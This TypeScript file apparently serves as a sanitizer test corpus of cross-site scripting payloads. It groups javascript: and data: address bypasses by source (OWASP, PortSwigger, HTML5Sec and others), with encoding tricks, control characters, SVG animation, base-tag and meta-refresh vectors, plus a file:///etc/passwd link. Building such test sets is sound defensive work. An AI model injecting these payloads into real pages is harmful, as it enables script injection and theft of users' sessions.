import { category } from './payload';
import { BENTKOWSKI, HTML5SEC, JSOUP, LXML, OWASP, own, PORTSWIGGER, WHATWG } from './sources';

/** Addresses that are scripts. */
export const JAVASCRIPT_ADDRESSES = category('javascript-addresses', [
  [
    OWASP,
    {
      plain: '<a href="javascript:{{CALL}}">read on</a>',
      'mixed-case': '<a href="JaVaScRiPt:{{CALL}}">read on</a>',
      'embedded-tab': '<a href="jav\tascript:{{CALL}}">read on</a>',
      'encoded-tab': '<a href="jav&#x09;ascript:{{CALL}}">read on</a>',
      'encoded-newline': '<a href="jav&#x0A;ascript:{{CALL}}">read on</a>',
      'encoded-return': '<a href="jav&#x0D;ascript:{{CALL}}">read on</a>',
      'leading-spaces': '<a href=" &#14;  javascript:{{CALL}}">read on</a>',
      'leading-controls': '<a href="&#1;&#2;&#3;&#31;javascript:{{CALL}}">read on</a>',
      'named-colon': '<a href="javascript&colon;{{CALL}}">read on</a>',
      'named-letters': '<a href="java&Tab;script&NewLine;&colon;{{CALL}}">read on</a>',
      'all-hex': '<a href="{{HEX:javascript:{{CALL}}}}">read on</a>',
      'all-decimal': '<a href="{{DECIMAL:javascript:{{CALL}}}}">read on</a>',
      'image-source': '<img src="javascript:{{CALL}}">',
      'image-dynsrc': '<img dynsrc="javascript:{{CALL}}" lowsrc="javascript:{{CALL}}">',
      'input-image': '<input type=image src="javascript:{{CALL}}">',
      'body-background': '<body background="javascript:{{CALL}}">',
      'table-background':
        '<table background="javascript:{{CALL}}"><td background="javascript:{{CALL}}">a</table>',
      vbscript: `<a href='vbscript:MsgBox("x")'>read on</a><img src="vbscript:x">`,
      livescript: '<a href="livescript:{{CALL}}">read on</a>',
    },
  ],
  [
    PORTSWIGGER,
    {
      'iframe-src': '<iframe src="javascript:{{CALL}}"></iframe>',
      'frame-src': '<frameset><frame src="javascript:{{CALL}}"></frameset>',
      'object-data': '<object data="javascript:{{CALL}}"></object>',
      'embed-src': '<embed src="javascript:{{CALL}}">',
      'form-action': '<form action="javascript:{{CALL}}"><button>send</button></form>',
      'button-formaction': '<form><button formaction="javascript:{{CALL}}">send</button></form>',
      'input-formaction': '<form><input type=submit formaction="javascript:{{CALL}}" value=send></form>',
      'area-href':
        '<map name=m><area shape=default href="javascript:{{CALL}}"></map><img usemap=#m src="{{URL}}">',
      'svg-link': '<svg><a href="javascript:{{CALL}}"><text y=9>read on</text></a></svg>',
      'svg-xlink': '<svg><a xlink:href="javascript:{{CALL}}"><text y=9>read on</text></a></svg>',
      'math-link': '<math><mtext href="javascript:{{CALL}}">read on</mtext></math>',
      'math-xlink': '<math><mi xlink:href="javascript:{{CALL}}" xlink:show=new>read on</mi></math>',
      'svg-animate-href':
        '<svg><a><animate attributeName=href values="javascript:{{CALL}}"/><text y=9>read on</text></a></svg>',
      'svg-set-href':
        '<svg><a><set attributeName=href to="javascript:{{CALL}}"/><text y=9>read on</text></a></svg>',
      'svg-animate-from':
        '<svg><a xlink:href=#><animate attributeName=xlink:href from="javascript:{{CALL}}" to="#" dur=99s /><text y=9>a</text></a></svg>',
      'line-comment': '<a href="javascript://%0a{{CALL}}">read on</a>',
      'url-lookalike': '<a href="javascript://example.org/%0d%0a{{CALL}}//">read on</a>',
      'target-blank': '<a href="javascript:{{CALL}}" target=_blank rel=opener>read on</a>',
      'base-javascript': '<base href="javascript:/a/-{{CALL}}//"><a href="../b">read on</a>',
    },
  ],
  [
    HTML5SEC,
    {
      'image-longdesc': '<img src="{{URL}}" longdesc="javascript:{{CALL}}">',
      'blockquote-cite': '<blockquote cite="javascript:{{CALL}}">quoted</blockquote>',
      'video-poster': '<video poster="javascript:{{CALL}}" src="javascript:{{CALL}}"></video>',
      'link-ping': '<a href="#x" ping="javascript:{{CALL}} {{URL}}">read on</a>',
      'head-profile': '<head profile="javascript:{{CALL}}"><a href=#>a</a>',
      'applet-code': '<applet code="javascript:{{CALL}}" codebase="{{URL}}">a</applet>',
      'command-icon': '<command icon="javascript:{{CALL}}" onclick={{CALL}}>',
      'menuitem-icon': '<menu><menuitem icon="javascript:{{CALL}}" onclick={{CALL}}>a</menu>',
      'xml-base': '<svg xml:base="javascript:{{CALL}}//"><a xlink:href="#x"><text y=9>a</text></a></svg>',
      'feed-source': '<a href="feed:javascript:{{CALL}}">read on</a>',
      'view-source': '<a href="view-source:javascript:{{CALL}}">read on</a>',
    },
  ],
  [
    JSOUP,
    {
      'control-before-colon': '<a href="javascript\u0001:{{CALL}}">read on</a>',
      'control-inside': '<a href="java\u0000script:{{CALL}}">read on</a>',
      'relative-with-base': '<base href="javascript:"><a href="{{CALL}}">read on</a>',
    },
  ],
  [
    own(LXML),
    {
      'no-break-space': '<a href="\u00a0javascript:{{CALL}}">read on</a>',
      'zero-width-space': '<a href="\u200bjavascript:{{CALL}}">read on</a>',
      'byte-order-mark': '<a href="\ufeffjavascript:{{CALL}}">read on</a>',
      'next-line': '<a href="\u0085javascript:{{CALL}}">read on</a>',
      'soft-hyphen': '<a href="java\u00adscript:{{CALL}}">read on</a>',
      'srcset-candidate': '<img srcset="javascript:{{CALL}} 1x, javascript:{{CALL}} 2x">',
      'action-and-method':
        '<form action="javascript:{{CALL}}" method=dialog><input type=image src="{{URL}}"></form>',
    },
  ],
  [
    own(`${BENTKOWSKI}; ${WHATWG}`),
    {
      'autofocus-click': '<a href="javascript:{{CALL}}" id=x autofocus onfocus=this.click()>read on</a>',
      'meta-refresh': '<meta http-equiv=refresh content="0;url=javascript:{{CALL}}">',
      'details-link': '<details open><summary><a href="javascript:{{CALL}}">a</a></summary></details>',
      'footnote-lookalike': '<sup><a href="javascript:{{CALL}}#fn1" id=ref1>1</a></sup>',
      accesskey: '<a href="javascript:{{CALL}}" accesskey=x>read on</a>',
    },
  ],
]);

/** Addresses that hold the document they lead to, and other schemes that a link should not have. */
export const DATA_ADDRESSES = category('data-addresses', [
  [
    OWASP,
    {
      'link-html': '<a href="data:text/html,<script>{{CALL}}</script>">read on</a>',
      'link-base64': '<a href="data:text/html;base64,{{B64:<script>{{CALL}}</script>}}">read on</a>',
      'meta-refresh-data':
        '<meta http-equiv=refresh content="0;url=data:text/html;base64,{{B64:<script>{{CALL}}</script>}}">',
      'embed-svg-base64':
        '<embed type=image/svg+xml src="data:image/svg+xml;base64,{{B64:<svg xmlns="http://www.w3.org/2000/svg" onload="{{CALL}}"/>}}">',
      'object-html': '<object data="data:text/html;base64,{{B64:<script>{{CALL}}</script>}}"></object>',
    },
  ],
  [
    PORTSWIGGER,
    {
      'iframe-html': '<iframe src="data:text/html,<script>{{CALL}}</script>"></iframe>',
      'iframe-xhtml':
        '<iframe src="data:application/xhtml+xml,<html xmlns=`http://www.w3.org/1999/xhtml`><body onload={{CALL}}/></html>"></iframe>',
      'iframe-percent': '<iframe src="data:text/html,{{PERCENT:<script>{{CALL}}</script>}}"></iframe>',
      'object-svg': `<object data="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{{CALL}}'/>"></object>`,
      'svg-use-data': `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x:' onerror='{{CALL}}'/></svg>#x"></use></svg>`,
      'svg-use-base64':
        '<svg><use href="data:image/svg+xml;base64,{{B64:<svg id="x" xmlns="http://www.w3.org/2000/svg"><a href="javascript:{{CALL}}"><text y="9">a</text></a></svg>}}#x"/></svg>',
      'image-svg-script': `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>{{CALL}}</script></svg>">`,
      'image-svg-foreign': `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><foreignObject><img xmlns='http://www.w3.org/1999/xhtml' src='{{URL}}'/></foreignObject></svg>">`,
      'charset-trick': '<a href="data:text/html;charset=utf-7,+ADw-script+AD4-{{CALL}}">read on</a>',
    },
  ],
  [
    own(HTML5SEC),
    {
      'upper-scheme': '<a href="DATA:text/html,<script>{{CALL}}</script>">read on</a>',
      'tab-in-scheme': '<a href="da\tta:text/html,<script>{{CALL}}</script>">read on</a>',
      'image-type-lie': '<a href="data:image/png,<script>{{CALL}}</script>">read on</a>',
      'xml-stylesheet': `<iframe src="data:text/xml,<?xml-stylesheet href='javascript:{{CALL}}'?><x/>"></iframe>`,
      'link-stylesheet': '<link rel=stylesheet href="data:text/css,*{background:url({{URL}})}">',
      'track-vtt':
        '<video><track default src="data:text/vtt,WEBVTT%0a%0a00:00.000 --> 00:09.000%0a<b>x</b>"></video>',
      'video-data-html': '<video src="data:text/html,<script>{{CALL}}</script>" onerror={{CALL}}></video>',
      'blob-scheme': '<a href="blob:null/0000">a</a><iframe src="blob:null/0000" onload={{CALL}}></iframe>',
      'filesystem-scheme': '<a href="filesystem:{{URL}}">a</a>',
      'file-scheme': '<a href="file:///etc/passwd">a</a><img src="file:///etc/hostname" onerror={{CALL}}>',
      'about-scheme': '<iframe src="about:srcdoc" srcdoc="<script>{{CALL}}</script>"></iframe>',
      'extension-scheme':
        '<a href="chrome-extension://x/options.html">a</a><img src="moz-extension://x/icon.png" onerror={{CALL}}>',
      'intent-scheme': '<a href="intent://x#Intent;scheme=javascript;end">a</a>',
      'ms-handlers': '<a href="ms-word:ofe|u|{{URL}}">a</a><a href="search-ms:query=x">b</a>',
      'websocket-scheme': '<a href="ws://127.0.0.1/">a</a><a href="wss://127.0.0.1/">b</a>',
      'jar-scheme': '<a href="jar:{{URL}}!/x.html">a</a><iframe src="jar:{{URL}}!/x.html"></iframe>',
      'chrome-scheme':
        '<a href="chrome://settings">a</a><a href="about:config">b</a><a href="resource://x">c</a>',
    },
  ],
]);
